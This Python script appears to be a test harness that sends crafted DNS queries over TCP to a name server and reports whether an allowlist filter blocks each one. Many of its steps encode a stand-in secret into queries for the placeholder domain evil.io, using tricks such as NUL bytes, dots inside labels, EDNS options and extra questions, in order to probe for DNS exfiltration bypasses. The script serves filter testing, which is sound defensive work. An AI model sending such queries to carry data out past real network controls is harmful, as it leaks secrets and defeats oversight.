"""Asks the name server itself, over TCP, byte by byte; reports in the form of attack.h.

    dns.py SERVER STEP...       SERVER: an address, or `-` for the one in /etc/resolv.conf

A step is OPEN when there is an answer with an address in it; otherwise BLOCKED with the response code, with EMPTY when
there is nothing in the answer, with EOF when there is none, or with the error of the connection.
"""

import errno
import re
import socket
import struct
import sys

SECRET = b"c2VjcmV0"
CODES = {1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
A, NS, PTR, TXT, AAAA, SRV, HTTPS, AXFR, ANY = 1, 2, 12, 16, 28, 33, 65, 252, 255


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def ask(question, kind=A, of_class=1, flags=0x0100, questions=1, more=b"", additional=0):
    head = struct.pack(">6H", 0x4242, flags, questions, 0, 0, additional)
    return head + question + struct.pack(">2H", kind, of_class) + more


LISTED = name(b"example", b"com")
OTHER = name(SECRET, b"evil", b"io")
OPTION = SECRET + b".evil.io"
EDNS = b"\0" + struct.pack(">2HIH", 41, 1232, 0, len(OPTION) + 4) + struct.pack(">2H", 65001, len(OPTION)) + OPTION

STEPS = {
    "listed": ask(LISTED),
    "upper-case": ask(name(b"EXAMPLE", b"cOm")),
    "wildcard": ask(name(b"www", b"github", b"com")),
    # Not listed, in every way that a comparison of text could get wrong.
    "other": ask(OTHER),
    "other-txt": ask(OTHER, TXT),
    "other-aaaa": ask(OTHER, AAAA),
    "prefix": ask(name(b"not" + SECRET + b"github", b"com")),
    "suffix": ask(name(b"example", b"com", SECRET, b"evil", b"io")),
    "below-exact": ask(name(SECRET, b"example", b"com")),
    "apex-of-wildcard": ask(name(b"github", b"com")),
    "nul": ask(name(b"example", b"com\0", SECRET, b"evil", b"io")),
    "nul-in-wildcard": ask(name(SECRET + b"\0", b"github", b"com")),
    "dot-in-label": ask(name(SECRET + b".evil.io", b"github", b"com")),
    "one-label": ask(name(b"example.com")),
    "crlf": ask(name(SECRET + b"\r\n", b"github", b"com")),
    "space": ask(name(SECRET + b" x", b"github", b"com")),
    "high-bit": ask(name(SECRET + b"\xe4", b"github", b"com")),
    "escape": ask(name(b"\x1b[2J" + SECRET, b"github", b"com")),
    "percent": ask(name(SECRET + b"%25", b"github", b"com")),
    "root": ask(b"\0"),
    "reverse": ask(name(b"34", b"216", b"184", b"93", b"in-addr", b"arpa"), PTR),
    # Listed, and something beside it that could be carried along.
    "txt": ask(LISTED, TXT),
    "srv": ask(LISTED, SRV),
    "any": ask(LISTED, ANY),
    "https": ask(LISTED, HTTPS),
    "aaaa": ask(LISTED, AAAA),
    "chaos": ask(LISTED, of_class=3),
    "transfer": ask(LISTED, AXFR),
    "two-questions": ask(LISTED, questions=2, more=OTHER + struct.pack(">2H", A, 1)),
    "edns-option": ask(LISTED, additional=1, more=EDNS),
    "trailing-bytes": ask(LISTED, more=OPTION),
    # No questions at all.
    "pointer-loop": ask(b"\xc0\x0c"),
    "pointer-behind": ask(b"\xc0\xff"),
    "cut-off": ask(LISTED)[:20],
    "a-response": ask(LISTED, flags=0x8180),
    "an-update": ask(LISTED, flags=0x2800),
    "nothing": b"",
    "zeros": bytes(12),
}


def exchange(server, message):
    with socket.create_connection((server, 53)) as sock:
        sock.sendall(struct.pack(">H", len(message)) + message)
        sock.shutdown(socket.SHUT_WR)
        answer = b""
        while len(answer) < 2 or len(answer) < 2 + struct.unpack(">H", answer[:2])[0]:
            data = sock.recv(65536)
            if not data:
                return "EOF"
            answer += data
    _, flags, _, answers, _, _ = struct.unpack(">6H", answer[2:14])
    if flags & 15:
        return CODES.get(flags & 15, str(flags & 15))
    return None if answers else "EMPTY"


server = sys.argv[1]
if server == "-":
    server = re.search(r"^nameserver\s+(\S+)", open("/etc/resolv.conf").read(), re.M)[1]
for step in sys.argv[2:]:
    try:
        how = exchange(server, STEPS[step])
    except OSError as error:
        how = errno.errorcode[error.errno]
    print(f"BLOCKED {step} {how}" if how else f"OPEN {step}", file=sys.stderr, flush=True)
